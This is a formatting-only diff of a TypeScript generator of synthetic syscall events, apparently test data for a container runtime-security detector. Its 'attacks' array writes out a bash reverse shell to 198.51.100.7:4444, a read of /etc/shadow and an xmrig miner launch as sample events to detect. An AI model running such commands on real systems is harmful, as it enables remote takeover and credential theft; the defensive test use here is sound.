@@ -7,8 +7,13 @@ import { rng } from './lib/rng.js';
 
 const containers: ContainerInfo[] = ['web', 'api', 'worker', 'db', 'cache'].map((name, i) => ({
   id: (`${i}`.repeat(2) + 'ab12cd34ef56').repeat(6).slice(0, 64).padEnd(64, 'f'),
-  name, image: `registry.example.com/${name}:1.${i}`, imageRepository: `registry.example.com/${name}`, imageTag: `1.${i}`,
-  podName: `${name}-6f7d9c-x${i}`, podNamespace: 'shop', privileged: false,
+  name,
+  image: `registry.example.com/${name}:1.${i}`,
+  imageRepository: `registry.example.com/${name}`,
+  imageTag: `1.${i}`,
+  podName: `${name}-6f7d9c-x${i}`,
+  podNamespace: 'shop',
+  privileged: false,
 }));
 
 const services = [
@@ -19,16 +24,60 @@ const services = [
   { name: 'redis-server', exe: '/usr/bin/redis-server', args: ['redis-server', '*:6379'] },
 ];
 
-const readPaths = ['/etc/ld.so.cache', '/usr/lib/x86_64-linux-gnu/libc.so.6', '/proc/self/stat', '/proc/meminfo', '/etc/localtime',
-  '/app/config/settings.json', '/usr/share/zoneinfo/UTC', '/sys/fs/cgroup/cpu.max', '/etc/hosts', '/etc/resolv.conf', '/app/templates/index.html',
-  '/var/lib/postgresql/data/base/16384/2619', '/usr/lib/python3.11/json/__init__.py', '/etc/nsswitch.conf', '/etc/passwd'];
-const writePaths = ['/var/log/app/app.log', '/tmp/upload-1234.part', '/var/lib/postgresql/data/pg_wal/000000010000000000000001', '/app/cache/page.bin', '/var/cache/nginx/proxy/1/ab'];
-const cmds = [['sh', '-c', 'pg_isready -q'], ['ls', '-la', '/app'], ['curl', '-fsS', 'http://localhost:8080/health'], ['python3', '/app/job.py'], ['date', '+%s'], ['cat', '/proc/loadavg']];
+const readPaths = [
+  '/etc/ld.so.cache',
+  '/usr/lib/x86_64-linux-gnu/libc.so.6',
+  '/proc/self/stat',
+  '/proc/meminfo',
+  '/etc/localtime',
+  '/app/config/settings.json',
+  '/usr/share/zoneinfo/UTC',
+  '/sys/fs/cgroup/cpu.max',
+  '/etc/hosts',
+  '/etc/resolv.conf',
+  '/app/templates/index.html',
+  '/var/lib/postgresql/data/base/16384/2619',
+  '/usr/lib/python3.11/json/__init__.py',
+  '/etc/nsswitch.conf',
+  '/etc/passwd',
+];
+const writePaths = [
+  '/var/log/app/app.log',
+  '/tmp/upload-1234.part',
+  '/var/lib/postgresql/data/pg_wal/000000010000000000000001',
+  '/app/cache/page.bin',
+  '/var/cache/nginx/proxy/1/ab',
+];
+const cmds = [
+  ['sh', '-c', 'pg_isready -q'],
+  ['ls', '-la', '/app'],
+  ['curl', '-fsS', 'http://localhost:8080/health'],
+  ['python3', '/app/job.py'],
+  ['date', '+%s'],
+  ['cat', '/proc/loadavg'],
+];
 const attacks: Array<(e: SyscallEvent) => void> = [
-  (e) => { e.type = 'execve'; e.proc.name = 'bash'; e.proc.args = ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1']; e.proc.exepath = '/bin/bash'; },
-  (e) => { e.type = 'openat'; e.args = { dirfd: -100, name: '/etc/shadow', flags: 0 }; e.fd = { num: 5, type: 'file', name: '/etc/shadow' }; e.proc.name = 'cat'; },
-  (e) => { e.type = 'execve'; e.proc.name = 'xmrig'; e.proc.args = ['xmrig', '-o', 'stratum+tcp://pool.example:3333']; e.proc.exepath = '/tmp/xmrig'; },
-  (e) => { e.type = 'setns'; },
+  (e) => {
+    e.type = 'execve';
+    e.proc.name = 'bash';
+    e.proc.args = ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'];
+    e.proc.exepath = '/bin/bash';
+  },
+  (e) => {
+    e.type = 'openat';
+    e.args = { dirfd: -100, name: '/etc/shadow', flags: 0 };
+    e.fd = { num: 5, type: 'file', name: '/etc/shadow' };
+    e.proc.name = 'cat';
+  },
+  (e) => {
+    e.type = 'execve';
+    e.proc.name = 'xmrig';
+    e.proc.args = ['xmrig', '-o', 'stratum+tcp://pool.example:3333'];
+    e.proc.exepath = '/tmp/xmrig';
+  },
+  (e) => {
+    e.type = 'setns';
+  },
 ];
 
 export function generateEvents(n: number, seed = 42): SyscallEvent[] {
@@ -43,10 +92,28 @@ export function generateEvents(n: number, seed = 42): SyscallEvent[] {
     const svc = pick(services);
     const pid = 1000 + Math.floor(r() * 30000);
     const e: SyscallEvent = {
-      source: 'syscall', type: 'openat', time: t, res: 0, args: {},
+      source: 'syscall',
+      type: 'openat',
+      time: t,
+      res: 0,
+      args: {},
       proc: {
-        pid, ppid: pid - 1, name: svc.name, exepath: svc.exe, args: svc.args, uid: inContainer ? 101 : 0, user: inContainer ? 'app' : 'root', tty: 0,
-        parents: [{ pid: pid - 1, name: inContainer ? 'containerd-shim' : 'systemd', exepath: inContainer ? '/usr/bin/containerd-shim-runc-v2' : '/lib/systemd/systemd' }, { pid: 1, name: 'systemd' }],
+        pid,
+        ppid: pid - 1,
+        name: svc.name,
+        exepath: svc.exe,
+        args: svc.args,
+        uid: inContainer ? 101 : 0,
+        user: inContainer ? 'app' : 'root',
+        tty: 0,
+        parents: [
+          {
+            pid: pid - 1,
+            name: inContainer ? 'containerd-shim' : 'systemd',
+            exepath: inContainer ? '/usr/bin/containerd-shim-runc-v2' : '/lib/systemd/systemd',
+          },
+          { pid: 1, name: 'systemd' },
+        ],
         startTime: t - 3_600_000,
       },
       host: 'node-1',
@@ -67,13 +134,28 @@ export function generateEvents(n: number, seed = 42): SyscallEvent[] {
       e.type = 'connect';
       e.res = r() < 0.3 ? -115 : 0;
       e.args = { fd: 7, addr: `${dip}:${dport}` };
-      e.fd = { num: 7, type: 'ipv4', sip: '10.0.1.17', sport: 30000 + Math.floor(r() * 30000), dip, dport, l4proto: 'tcp', name: `10.0.1.17:40000->${dip}:${dport}` };
-    } else if (x < 0.80) {
+      e.fd = {
+        num: 7,
+        type: 'ipv4',
+        sip: '10.0.1.17',
+        sport: 30000 + Math.floor(r() * 30000),
+        dip,
+        dport,
+        l4proto: 'tcp',
+        name: `10.0.1.17:40000->${dip}:${dport}`,
+      };
+    } else if (x < 0.8) {
       // Health checks and jobs run by app runtimes and entrypoint scripts (web servers do not spawn programs).
       const argv = pick(cmds);
       const parent = pick([services[1]!, services[2]!, { name: 'bash', exe: '/bin/bash', args: ['bash', '/docker-entrypoint.sh'] }]);
       e.type = 'execve';
-      e.proc = { ...e.proc, name: argv[0]!, args: argv, exepath: `/usr/bin/${argv[0]}`, parents: [{ pid: pid - 1, name: parent.name, exepath: parent.exe, args: parent.args }, ...(e.proc.parents ?? [])] };
+      e.proc = {
+        ...e.proc,
+        name: argv[0]!,
+        args: argv,
+        exepath: `/usr/bin/${argv[0]}`,
+        parents: [{ pid: pid - 1, name: parent.name, exepath: parent.exe, args: parent.args }, ...(e.proc.parents ?? [])],
+      };
     } else if (x < 0.88) {
       e.type = pick(['renameat2', 'unlinkat']);
       const p = pick(writePaths);
